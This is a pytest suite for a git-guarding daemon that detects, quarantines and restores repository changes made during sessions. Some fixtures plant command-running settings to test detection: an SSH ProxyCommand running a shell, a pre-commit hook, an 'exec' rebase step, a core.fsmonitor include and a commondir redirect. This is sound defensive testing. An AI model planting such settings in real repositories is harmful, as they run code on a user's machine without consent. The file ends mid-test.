"""The trusted baseline's parts, on real repositories made by git: the tree
walk (repositories anywhere, the user's tools' files, its bounds), the
commit reader, the history keep and restore, and the store's domains and
recovery after a daemon that died (daemon/gitguard/baselines.py)."""

from __future__ import annotations

import os
import subprocess
import threading
import time
from pathlib import Path

import msgspec
import pytest

from dispatchd.daemon.gitguard import baselines, digests, history, layouts, objectstore, redirects, runnables, snapshots
from tests.unit.gitrepo import git, make_repo

pytestmark = pytest.mark.process  # git makes the repositories


def rev(repo: Path, what: str) -> str:
    return git(repo, "rev-parse", what).strip()


def commits(repo: Path, n: int) -> None:
    for i in range(n):
        (repo / "c.txt").write_text(f"{i}\n")
        git(repo, "add", "c.txt")
        git(repo, "commit", "-qm", f"c{i}")


# --- runnables -------------------------------------------------------------------------------


def test_a_new_repository_anywhere_is_listed_by_its_config_not_whole(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    before = runnables.take(str(repo))
    (repo / "d1" / "sub").mkdir()
    git(repo / "d1" / "sub", "init", "-q")
    now = runnables.take(str(repo))
    todo = runnables.changes(before, now)
    assert "d1/sub/.git/config" in todo and "d1/sub/.git" not in todo
    moved, failed = runnables.quarantine(str(repo), todo)
    assert not failed and not (repo / "d1" / "sub" / ".git" / "config").exists()
    assert (repo / "d1" / "sub" / ".git" / "HEAD").exists()


def test_an_unchanged_tree_lists_nothing(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "settings.json").write_text("{}")
    (repo / "d0" / "sub").mkdir()
    git(repo / "d0" / "sub", "init", "-q")
    assert runnables.changes(runnables.take(str(repo)), runnables.take(str(repo))) == []


def test_a_bare_looking_directory_counts_as_a_repository(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    before = runnables.take(str(repo))
    git(tmp_path, "init", "-q", "--bare", str(repo / "d2" / "bare"))
    todo = runnables.changes(before, runnables.take(str(repo)))
    assert "d2/bare/config" in todo


def test_protected_names_new_directory_whole_changed_file_alone(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    (repo / ".claude").mkdir()
    (repo / ".claude" / "keep.json").write_text("{}")
    (repo / ".claude" / "settings.json").write_text("{}")
    before = runnables.take(str(repo))
    (repo / ".claude" / "settings.json").write_text('{"hooks": 1}')
    (repo / "d0" / ".vscode").mkdir()
    (repo / "d0" / ".vscode" / "tasks.json").write_text("{}")
    (repo / "d0" / "plain.txt").write_text("x")
    todo = runnables.changes(before, runnables.take(str(repo)))
    assert todo == [".claude/settings.json", "d0/.vscode"]


def test_dotfiles_a_login_or_an_editor_runs_are_protected_by_default(tmp_path: Path) -> None:
    """A worktree that is a home directory's dotfiles: zsh's login files,
    ``.ssh`` (its ``config``'s ``ProxyCommand``, ``authorized_keys``), Vim's
    and Neovim's per-folder files. The twin: a file beside them, and one
    named like them but not them, are no change."""
    repo = make_repo(tmp_path / "r")
    (repo / ".ssh").mkdir()
    (repo / ".ssh" / "known_hosts").write_text("")
    before = runnables.take(str(repo))
    (repo / ".ssh" / "config").write_text("Host *\n  ProxyCommand sh -c 'touch PWNED'\n")
    for name in (".zlogin", ".zlogout", ".exrc", ".nvim.lua", ".nvimrc"):
        (repo / "home" / name).parent.mkdir(exist_ok=True)
        (repo / "home" / name).write_text("x\n")
    (repo / "home" / "zlogin").write_text("x\n")
    (repo / "home" / "notes.txt").write_text("x\n")
    todo = runnables.changes(before, runnables.take(str(repo)))
    assert todo == [".ssh/config", "home/.exrc", "home/.nvim.lua", "home/.nvimrc", "home/.zlogin", "home/.zlogout"]


def test_an_unreadable_directory_is_looked_into_and_its_mode_kept(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    before = runnables.take(str(repo))
    (repo / "a" / "sub").mkdir(parents=True)
    git(repo / "a" / "sub", "init", "-q")
    os.chmod(repo / "a", 0)
    try:
        now = runnables.take(str(repo))
        assert now.complete and os.stat(repo / "a").st_mode & 0o777 == 0  # looked into, mode put back
        todo = runnables.changes(before, now)
        assert todo == ["a/sub/.git/config"]
        moved, failed = runnables.quarantine(str(repo), todo)
        assert len(moved) == 1 and not failed
    finally:
        os.chmod(repo / "a", 0o755)


def test_the_walk_is_bounded_in_depth_without_recursion(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    top = tmp_path / "deep"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(1500):  # deeper than Python's recursion limit
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        os.mkdir(".vscode", dir_fd=fd)
    finally:
        os.close(fd)
    before = runnables.TreeSnapshot()
    snap = runnables.take(str(top))
    assert snap.complete and runnables.changes(before, snap) == ["d/" * 1500 + ".vscode"]
    monkeypatch.setattr(runnables, "MAX_DEPTH", 1000)
    snap = runnables.take(str(top))
    assert not snap.complete and snap.why.startswith("deeper than 1000 directories (below d/d/d/...")
    subprocess.run(["rm", "-rf", str(top)], check=True)


def test_a_wide_tree_holds_few_descriptors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    top = tmp_path / "wide"
    for i in range(300):
        (top / f"d{i}" / "inner").mkdir(parents=True)
    (top / "d123" / "inner" / ".envrc").write_text("x")
    monkeypatch.setattr(runnables, "MAX_OPEN", 8)
    before = len(os.listdir("/proc/self/fd"))
    snap = runnables.take(str(top))
    assert snap.complete and list(snap.entries) == ["d123/inner/.envrc"]
    assert len(os.listdir("/proc/self/fd")) <= before  # nothing left open (other tests' may be: counted before)


# --- snapshots' new coverage ------------------------------------------------------------------


def test_rebase_state_and_include_targets_are_compared(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    (repo / "inc.cfg").write_text("[alias]\n\tx = status\n")
    (repo / "hooks-here").mkdir()
    (repo / "hooks-here" / "pre-commit").write_text("#!/bin/sh\n")
    git(repo, "config", "include.path", "../inc.cfg")
    git(repo, "config", "core.hooksPath", "hooks-here")
    layout = layouts.inspect_git(str(repo), uid=os.getuid())
    before = snapshots.take(str(repo), layout)
    assert set(before.included) == {"inc.cfg", "hooks-here", "hooks-here/pre-commit"}
    assert snapshots.changes(before, snapshots.take(str(repo), layout)) == []
    (repo / "inc.cfg").write_text("[core]\n\tfsmonitor = x\n")
    (repo / "hooks-here" / "post-commit").write_text("#!/bin/sh\n")
    (repo / ".git" / "rebase-merge").mkdir()
    (repo / ".git" / "rebase-merge" / "git-rebase-todo").write_text("exec x\n")
    now = snapshots.take(str(repo), layout)
    assert sorted(snapshots.changes(before, now)) == [".git/rebase-merge", "hooks-here/post-commit", "inc.cfg"]


@pytest.mark.parametrize("where", ["~/.gitconfig", "an include of it", "$GIT_CONFIG_GLOBAL"])
def test_a_relative_hooks_path_of_the_user_s_own_config_is_checked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                    where: str) -> None:
    """``core.hooksPath = .githooks`` in the user's global configuration (as
    husky-like set-ups do) names a directory in every worktree: a hook a
    session writes there ran at the user's next commit. The twin: without
    that setting, the same file is only a file."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.setenv("GIT_CONFIG_SYSTEM", str(tmp_path / "no-system-config"))
    setting = "[core]\n\thooksPath = .githooks\n"
    if where == "~/.gitconfig":
        (home / ".gitconfig").write_text(setting)
    elif where == "an include of it":
        (home / ".gitconfig").write_text("[include]\n\tpath = ~/.gitconfig.local\n")
        (home / ".gitconfig.local").write_text(setting)
    else:
        (tmp_path / "global").write_text(setting)
        monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "global"))

    def session_writes_a_hook(repo: Path, home: Path) -> list[str]:
        layout = layouts.inspect_git(str(repo), uid=os.getuid())
        before = snapshots.take(str(repo), layout, str(home))
        (repo / ".githooks").mkdir()
        (repo / ".githooks" / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/ran\n")
        return snapshots.changes(before, snapshots.take(str(repo), layout, str(home)))

    assert session_writes_a_hook(make_repo(tmp_path / "r"), home) == [".githooks/pre-commit"]
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    (tmp_path / "nobody").mkdir()
    assert session_writes_a_hook(make_repo(tmp_path / "plain"), tmp_path / "nobody") == []  # the twin


def test_many_hard_links_are_hashed_once(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    hooks = repo / ".git" / "modules" / "x" / "hooks"
    hooks.mkdir(parents=True)
    for d in ("objects", "refs"):
        (hooks.parent / d).mkdir()
    (hooks.parent / "HEAD").write_text("ref: refs/heads/m\n")
    (hooks / "big").write_bytes(b"\0" * (4 << 20))
    for i in range(500):
        os.link(hooks / "big", hooks / f"h{i}")
    walk_budget = digests.Budget()
    fp = digests.fingerprint(os.open(hooks.parent, os.O_PATH), walk_budget)
    assert len({fp[f"hooks/h{i}"] for i in range(500)}) == 1
    assert walk_budget.left == digests._MAX_HASHED - (4 << 20)


def test_a_deep_modules_chain_is_no_recursion(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    path = repo / ".git" / "modules"
    for _ in range(300):
        path = path / "a"
        for d in ("objects", "refs"):
            (path / d).mkdir(parents=True)
        (path / "HEAD").write_text("ref: refs/heads/m\n")
        path = path / "modules"
    layout = layouts.inspect_git(str(repo), uid=os.getuid())
    snap = snapshots.take(str(repo), layout)
    # Nothing crashed; what lies deeper than the walk looks is never equal to
    # anything, so it goes aside whole at the end (each level is reached from
    # the worktree down: a deeper walk would cost its depth squared).
    deep = [rel for rel, found in snap.gitdirs.items() if found.get("", "").startswith("deeper than 64 components")]
    assert len(deep) == 1 and deep[0].count("/") > 64, deep
    assert snap.complete and len(snap.gitdirs) < 40  # the shallow ones, each recorded


# --- objectstore and history ------------------------------------------------------------------


def test_ancestry_through_loose_and_packed_commits(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    commits(repo, 30)
    old, mid = rev(repo, "HEAD~25"), rev(repo, "HEAD~10")
    objects = str(repo / ".git" / "objects")
    assert objectstore.is_ancestor(objects, old, mid) is True
    assert objectstore.is_ancestor(objects, mid, old) is False
    git(repo, "gc", "-q", "--aggressive")  # deltas in a pack
    commits(repo, 3)  # and loose ones on top
    head = rev(repo, "HEAD")
    assert objectstore.is_ancestor(objects, old, head) is True
    assert objectstore.is_ancestor(objects, head, old) is False
    assert objectstore.is_ancestor(objects, "0" * 40, head) is False
    assert objectstore.is_ancestor(objects, old, "1" * 40) is None  # missing: not known


def test_history_put_back_after_refs_and_objects_are_deleted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    commits(repo, 5)
    git(repo, "branch", "other", "HEAD~2")
    git(repo, "tag", "v1", "HEAD~1")
    git(repo, "gc", "-q")
    commits(repo, 1)  # a loose object or two as well
    common = repo / ".git"
    before = {name: rev(repo, name) for name in ("other", "v1", "HEAD")}
    kept = history.record(str(common), str(tmp_path / "keep"), own=[])
    subprocess.run(["bash", "-c", "rm -rf objects/* refs/heads/* refs/tags/* packed-refs"], cwd=common, check=True)
    done, failed = history.restore(kept)
    assert not failed
    assert {name: rev(repo, name) for name in ("other", "v1", "HEAD")} == before
    assert git(repo, "fsck", "--no-progress") == ""
    assert {path for path, _ in done} >= {"refs/heads/other", "refs/tags/v1"}


def test_an_object_deleted_under_a_reset_mtime_is_put_back_and_an_unchanged_store_is_not_listed(
        tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    commits(repo, 3)
    objects = repo / ".git" / "objects"
    kept = history.record(str(repo / ".git"), str(tmp_path / "keep"), own=[])
    victim = next(p for p in sorted(objects.glob("??/*")))
    before = os.stat(victim.parent)
    victim.unlink()
    os.utime(victim.parent, ns=(before.st_atime_ns, before.st_mtime_ns))  # the mtime put back; the ctime moved
    done, failed = history.restore(kept)
    assert not failed and victim.exists() and done == [(str(objects), "1 object files deleted by a session put back")]
    # Nothing changed since a look: restore lists no directory (its ctime says so) and puts nothing back.
    again = history.record(str(repo / ".git"), str(tmp_path / "keep"), own=[])
    time.sleep(0.06)  # past the window in which a ctime is not trusted
    again = history.record(str(repo / ".git"), str(tmp_path / "keep"), own=[])
    assert history._changed(again.stamps, again.stamped_ns, history._stamps(str(objects))) == set()


@pytest.mark.parametrize("now, expected", [
    ({"00": 10, "ab": 20, "pack": 30}, set()),  # unchanged, none racy
    ({"00": 10, "ab": 21, "pack": 30}, {"ab"}),  # changed since
    ({"00": 10, "pack": 30}, {"ab"}),  # gone
    ({"00": 10, "ab": 20, "cd": 5, "pack": 30}, {"cd"}),  # new
])
def test_the_object_directories_listed_again_are_the_changed_ones(now: dict[str, int], expected: set[str]) -> None:
    then, look = {"00": 10, "ab": 20, "pack": 30}, 30 + history._RACY_NS + 1
    assert history._changed(then, look, now) == expected
    # A directory changed within the racy window before the look is listed again, changed or not.
    assert history._changed(then, look - 2, now) == expected | {"pack"}


def test_a_keep_up_to_date_is_not_written_again_and_a_new_object_is_kept(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    commits(repo, 2)
    objects, keep = repo / ".git" / "objects", tmp_path / "keep"
    time.sleep(0.06)  # past the window in which a ctime is not trusted: no directory is racy
    history.record(str(repo / ".git"), str(keep), own=[])
    first = os.stat(keep / ".stamps").st_ino
    history.record(str(repo / ".git"), str(keep), own=[])
    assert os.stat(keep / ".stamps").st_ino == first  # nothing new to say: not rewritten (a rename is a new inode)
    commits(repo, 1)
    history.record(str(repo / ".git"), str(keep), own=[])
    assert os.stat(keep / ".stamps").st_ino != first
    assert {p.relative_to(objects) for p in objects.glob("??/*")} <= {p.relative_to(keep) for p in keep.glob("??/*")}


def test_a_rewound_branch_is_put_back_and_the_new_value_kept(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    commits(repo, 4)
    git(repo, "branch", "feature")
    tip = rev(repo, "feature")
    kept = history.record(str(repo / ".git"), str(tmp_path / "keep"), own=[])
    git(repo, "branch", "-f", "feature", "HEAD~3")
    history.restore(kept)
    assert rev(repo, "feature") == tip
    displaced = git(repo, "for-each-ref", "--format=%(refname) %(objectname)", "refs/dispatchd/").split()
    assert displaced[1] == rev(repo, "HEAD~3") and displaced[0].endswith("/refs/heads/feature")


def test_a_fast_forward_and_the_own_branch_are_kept(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    git(repo, "branch", "-M", "main")
    git(repo, "branch", "feature")
    kept = history.record(str(repo / ".git"), str(tmp_path / "keep"), own=["refs/heads/main"])
    commits(repo, 2)  # main moves (the own branch), then feature fast-forwards to it
    git(repo, "branch", "-f", "feature", "main")
    git(repo, "reset", "-q", "--hard", "HEAD~2")  # the own branch rewound: its own to move
    done, failed = history.restore(kept)
    assert [w for _, w in done if not w.startswith("moved forward while a session ran, kept")] == [] and failed == []


# --- the store -----------------------------------------------------------------------------


def _join(store: baselines.Baselines, sid: str, root: Path, *, defer: bool = False, writable: bool = True,
          keep: bool = False) -> None:
    layout = layouts.inspect_git(str(root), uid=os.getuid())
    snap = snapshots.take(str(root), layout, keep=keep)
    store.join(sid, str(root), layout, snap, redirects.redirects_present(layout, str(root)),
               ("vscode-like",), defer=defer, writable=writable,
               reach=(str(root), *layout.writable) if writable else ())  # as the daemon's open gives it


def test_the_record_is_on_disk_while_a_session_lives_and_gone_after(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s1", repo)
    files = sorted(os.listdir(tmp_path / "state" / "baselines"))
    assert len(files) == 2 and files[0].endswith(".json") and files[1].endswith(".lock")
    record = msgspec.json.decode((tmp_path / "state" / "baselines" / files[0]).read_bytes(), type=baselines.Record)
    assert record.sessions == ["s1"] and record.parts[0].root == str(repo)
    assert store.leave("s1") == []
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_a_later_session_keeps_the_first_baseline(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "a", repo)
    (repo / ".git" / "commondir").write_text("../evil\n")  # A's plant
    _join(store, "b", repo)  # B's own look would hold it
    assert [p.path for p in store.leave("a")][0].startswith(str(repo / ".git" / "commondir"))
    (repo / ".git" / "commondir").write_text("../evil\n")  # B's plant again
    found = store.leave("b")
    assert found and not (repo / ".git" / "commondir").exists()


def test_overlapping_and_linked_worktrees_share_one_domain(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    linked = tmp_path / "linked"
    git(repo, "worktree", "add", "-q", str(linked))
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "a", repo)
    _join(store, "b", repo / "d0")  # inside: covered, no part of its own
    _join(store, "c", linked)  # the same repository: a part of its own
    assert len(store._domains) == 1
    record = next(iter(store._domains.values())).record
    assert [p.root for p in record.parts] == [str(repo), str(linked)]
    for sid in ("a", "b", "c"):
        store.leave(sid)
    assert store._domains == {} and os.listdir(tmp_path / "state" / "baselines") == []


def _walk_held(monkeypatch: pytest.MonkeyPatch, root: Path) -> tuple[threading.Event, threading.Event]:
    """The first walk of ``root`` at a join waits, once it has begun, until
    the second event is set: a large worktree's walk, as long as a test needs."""
    walking, go_on = threading.Event(), threading.Event()
    take = runnables.take

    def held(at: str, *args: object, **kwargs: object) -> runnables.TreeSnapshot:
        if at == str(root) and not walking.is_set():
            walking.set()
            assert go_on.wait(60)
        return take(at, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(runnables, "take", held)
    return walking, go_on


def _joining(store: baselines.Baselines, sid: str, root: Path) -> threading.Thread:
    t = threading.Thread(target=_join, args=(store, sid, root), daemon=True)
    t.start()
    return t


def test_an_open_does_not_wait_for_the_walk_of_an_unrelated_worktree(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    a, b = make_repo(tmp_path / "a"), make_repo(tmp_path / "b")
    store = baselines.Baselines(str(tmp_path / "state"))
    walking, go_on = _walk_held(monkeypatch, a)
    first = _joining(store, "sa", a)
    assert walking.wait(60)
    second = _joining(store, "sb", b)
    second.join(60)
    assert not second.is_alive() and first.is_alive()  # b opened while a's walk still runs
    assert "sb" in store._by_session and "sa" not in store._by_session
    go_on.set()
    first.join(60)
    assert len(store._domains) == 2 and store._by_session["sa"] is not store._by_session["sb"]
    assert store.leave("sa") == [] and store.leave("sb") == []
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_opens_of_one_domain_at_once_wait_and_join_one_baseline(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_repo(tmp_path / "r")
    linked = tmp_path / "linked"
    git(repo, "worktree", "add", "-q", str(linked))
    store = baselines.Baselines(str(tmp_path / "state"))
    walking, go_on = _walk_held(monkeypatch, repo)
    first = _joining(store, "a", repo)
    assert walking.wait(60)
    inside, sibling = _joining(store, "b", repo / "d0"), _joining(store, "c", linked)
    time.sleep(0.5)
    # Both wait for the first join's walk: neither takes a baseline of its own.
    assert inside.is_alive() and sibling.is_alive() and store._by_session == {}
    go_on.set()
    for t in (first, inside, sibling):
        t.join(60)
        assert not t.is_alive()
    assert len(store._domains) == 1
    record = next(iter(store._domains.values())).record
    assert [p.root for p in record.parts] == [str(repo), str(linked)] and sorted(record.sessions) == ["a", "b", "c"]
    for sid in ("a", "b", "c"):
        store.leave(sid)
    assert store._domains == {} and os.listdir(tmp_path / "state" / "baselines") == []


def test_a_worktree_over_the_walks_bounds_is_refused_and_leaves_no_domain(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    deep, plain = make_repo(tmp_path / "deep"), make_repo(tmp_path / "plain")
    (deep / "a" / "b" / "c" / "d" / "e").mkdir(parents=True)
    monkeypatch.setattr(runnables, "MAX_DEPTH", 3)
    store = baselines.Baselines(str(tmp_path / "state"))
    with pytest.raises(baselines.WorktreeError, match=r"deeper than 3 directories \(below a/b/c/\.\.\.; remove "
                                                      r"that chain to open sessions here\), more than dispatchd "
                                                      "checks .* no session opened"):
        _join(store, "s", deep)
    assert store._domains == {} and store._by_session == {} and os.listdir(tmp_path / "state" / "baselines") == []
    _join(store, "t", plain)  # the twin: within the bounds, it opens
    assert list(store._by_session) == ["t"] and len(os.listdir(tmp_path / "state" / "baselines")) == 2
    store.leave("t")


def test_a_start_finishes_the_checks_of_a_daemon_that_died(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    dead = baselines.Baselines(str(tmp_path / "state"))
    _join(dead, "s", repo)
    (repo / "d1" / "n").mkdir()
    git(repo / "d1" / "n", "init", "-q")
    os.close(next(iter(dead._domains.values())).lock_fd)  # what the kernel does for a dead daemon
    live = baselines.Baselines(str(tmp_path / "state"))
    found = live.recover()
    assert [Path(p.path).relative_to(repo).as_posix().split(".quarantined")[0] for p in found] == ["d1/n/.git/config"]
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_after_a_daemon_died_a_read_only_domain_leaves_the_users_work(tmp_path: Path) -> None:
    """A domain whose sessions all had their worktree held read-only by the
    kernel: what changed after the daemon died (the user worked on, days
    maybe) is the user's, and the start's check leaves it. The record says
    so on disk. The twin: a writable session's domain, checked as above."""
    repo = make_repo(tmp_path / "r")
    dead = baselines.Baselines(str(tmp_path / "state"))
    _join(dead, "s", repo, writable=False)
    git(repo, "config", "branch.main.remote", "origin")
    (repo / "d1" / "n").mkdir()
    git(repo / "d1" / "n", "init", "-q")
    os.close(next(iter(dead._domains.values())).lock_fd)  # what the kernel does for a dead daemon
    assert baselines.Baselines(str(tmp_path / "state")).recover() == []
    assert git(repo, "config", "branch.main.remote") == "origin\n" and (repo / "d1" / "n" / ".git" / "config").exists()
    assert os.listdir(tmp_path / "state" / "baselines") == []
    dead = baselines.Baselines(str(tmp_path / "state"))
    _join(dead, "s", repo, writable=False)
    _join(dead, "w", repo)  # a writable session joins: the domain is writable from then on
    git(repo, "config", "branch.main.merge", "refs/heads/main")
    os.close(next(iter(dead._domains.values())).lock_fd)
    found = baselines.Baselines(str(tmp_path / "state")).recover()
    assert {Path(p.path).relative_to(repo).as_posix().split(".quarantined")[0] for p in found} == {".git/config"}
    # The baseline renewed at the writable join (the remote the user added is in it) is put back.
    assert git(repo, "config", "branch.main.remote") == "origin\n"
    assert subprocess.run(["git", "config", "branch.main.merge"], cwd=repo).returncode == 1


def test_a_related_open_finishes_only_the_related_checks(tmp_path: Path) -> None:
    """At an open (daemon/claims.py), a dead daemon's records are checked
    only where they relate to the worktree opened: another's, a live
    session's of the user elsewhere, is not touched. The twin: the related
    one is finished."""
    here, there = make_repo(tmp_path / "here"), make_repo(tmp_path / "there")
    dead = baselines.Baselines(str(tmp_path / "state"))
    _join(dead, "s", here)
    _join(dead, "t", there)
    for repo in (here, there):
        (repo / "d1" / "n").mkdir()
        git(repo / "d1" / "n", "init", "-q")
    for domain in dead._domains.values():
        os.close(domain.lock_fd)  # what the kernel does for a dead daemon
    live = baselines.Baselines(str(tmp_path / "state"))
    found = live.recover(related=lambda roots, commons: str(here) in roots)
    assert [Path(p.path).parent for p in found] == [here / "d1" / "n" / ".git"]
    assert (there / "d1" / "n" / ".git" / "config").exists()  # not related: left for its own open, or a start
    assert len([n for n in os.listdir(tmp_path / "state" / "baselines") if n.endswith(".json")]) == 1
    assert [Path(p.path).parent for p in live.recover()] == [here / "d1" / "n" / ".git", there / "d1" / "n" / ".git"]
    assert not (there / "d1" / "n" / ".git" / "config").exists()  # all that the start's reports add up


def test_a_live_daemons_record_is_left_alone(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    live = baselines.Baselines(str(tmp_path / "state"))
    _join(live, "s", repo)
    other = baselines.Baselines(str(tmp_path / "state"))
    assert other.recover() == []
    assert len(os.listdir(tmp_path / "state" / "baselines")) == 2
    live.leave("s")


def test_a_check_that_cannot_finish_refuses_the_worktree_and_keeps_the_record(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    monkeypatch.setattr(runnables, "MAX_DIRS", 3)
    (repo / "a" / "b" / "c" / "d" / "e").mkdir(parents=True)  # more directories than the walk goes through now
    [said] = store.leave("s")  # the close says so, not only the log
    assert said.path == str(repo) and said.why.startswith("NOT checked whole: ") and "more than 3 directories" in said.why
    assert "more than 3 directories" in store.tainted[str(repo)]
    assert len([n for n in os.listdir(tmp_path / "state" / "baselines") if n.endswith(".json")]) == 1
    with pytest.raises(baselines.WorktreeError, match="could not move aside"):
        _join(store, "t", repo)
    monkeypatch.setattr(runnables, "MAX_DIRS", 250_000)
    fresh = baselines.Baselines(str(tmp_path / "state"))  # a restart: the check passes now
    fresh.recover()
    assert fresh.tainted == {} and os.listdir(tmp_path / "state" / "baselines") == []


# --- a new domain's record made durable after the join (join(defer=True), durable) -----------


def _kinds(state: Path) -> list[str]:
    """The record directory's files by kind, sorted: json, lock, tmp."""
    return sorted(n.rsplit(".", 1)[-1] for n in os.listdir(state / "baselines"))


def test_a_deferred_record_is_in_place_only_once_made_durable(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo, defer=True)
    assert _kinds(tmp_path / "state") == ["lock", "tmp"]  # written, not yet fsynced nor renamed
    assert store.durable("s") is None
    assert _kinds(tmp_path / "state") == ["json", "lock"]
    json = next(n for n in os.listdir(tmp_path / "state" / "baselines") if n.endswith(".json"))
    record = msgspec.json.decode((tmp_path / "state" / "baselines" / json).read_bytes(), type=baselines.Record)
    assert record.sessions == ["s"] and record.parts[0].root == str(repo)
    assert store.durable("s") is None  # once: a second call finds it done
    assert store.leave("s") == []
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_a_join_without_defer_is_durable_when_it_returns(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    assert _kinds(tmp_path / "state") == ["json", "lock"]
    store.leave("s")


def test_a_join_into_a_domain_makes_its_deferred_record_durable_first(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "a", repo, defer=True)
    _join(store, "b", repo / "d0", defer=True)  # a record others rely on is rewritten durably only
    assert _kinds(tmp_path / "state") == ["json", "lock"]
    record = next(iter(store._domains.values())).record
    assert record.sessions == ["a", "b"]
    assert store.durable("a") is None and store.durable("b") is None
    store.leave("a")
    store.leave("b")
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_a_domain_that_ends_before_its_record_is_durable_leaves_nothing(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo, defer=True)
    assert store.leave("s") == []
    assert os.listdir(tmp_path / "state" / "baselines") == []  # the temporary file too
    assert store.durable("s") is None  # no such session any more: nothing to wait for


def test_a_record_that_cannot_be_made_durable_says_why_until_rewritten_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "a", repo, defer=True)
    fsync = os.fsync

    def failing(fd: int) -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(os, "fsync", failing)
    why = store.durable("a")
    monkeypatch.setattr(os, "fsync", fsync)
    assert why == f"its baseline could not be made durable in {tmp_path / 'state' / 'baselines'} (Input/output error)"
    assert store.durable("a") == why  # no second try: "a" never writes
    assert _kinds(tmp_path / "state") == ["lock"]  # nothing in place, no temporary file left
    # The twin: the domain's next join writes the record whole, durably, and may write.
    _join(store, "b", repo, defer=True)
    assert _kinds(tmp_path / "state") == ["json", "lock"] and store.durable("b") is None
    assert store.durable("a") is None  # on disk now, its part with it: "a" may write too
    store.leave("a")
    store.leave("b")
    assert os.listdir(tmp_path / "state" / "baselines") == []


def test_the_in_place_look_runs_when_a_session_could_write_or_it_is_not_known(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The look at every loose object's ctime (an fstatat each, on the
    close's path) is skipped only for a domain none of whose sessions was
    granted the write lock: no process of theirs ran. Granted to one of two
    sessions, or a dead daemon's record (not known): it runs."""
    asked: list[bool] = []
    real = history.restore
    monkeypatch.setattr(history, "restore", lambda kept, in_place=True: (asked.append(in_place), real(kept))[1])
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "reader", repo)
    assert store.leave("reader") == [] and asked == [False]
    _join(store, "a", repo)
    _join(store, "b", repo)
    store.writing("b")
    store.leave("a")
    store.leave("b")
    assert asked == [False, True]
    _join(store, "dead", repo)
    store.writing("unknown")  # no such session: nothing marked, nothing raised
    record = next(p for p in (tmp_path / "state" / "baselines").iterdir() if p.suffix == ".json")
    again = baselines.Baselines(str(tmp_path / "state"))
    os.close(store._by_session["dead"].lock_fd)  # the first daemon is gone: its lock with it
    store._by_session["dead"].lock_fd = -1
    assert record.exists()
    again.recover()
    assert asked == [False, True, True]


def test_a_rerere_cache_a_session_made_is_changed_state(tmp_path: Path) -> None:
    """``.git/rr-cache`` turns rerere on (unless the configuration says
    otherwise), and a resolution recorded there is what the user's next
    conflicting merge takes, without conflict markers: compared whole, as
    the rebase state is. The twin: none made, nothing changed."""
    repo = make_repo(tmp_path / "r")
    layout = layouts.inspect_git(str(repo), uid=os.getuid())
    before = snapshots.take(str(repo), layout)
    assert snapshots.changes(before, snapshots.take(str(repo), layout)) == []
    (repo / ".git" / "rr-cache" / ("a" * 40)).mkdir(parents=True)
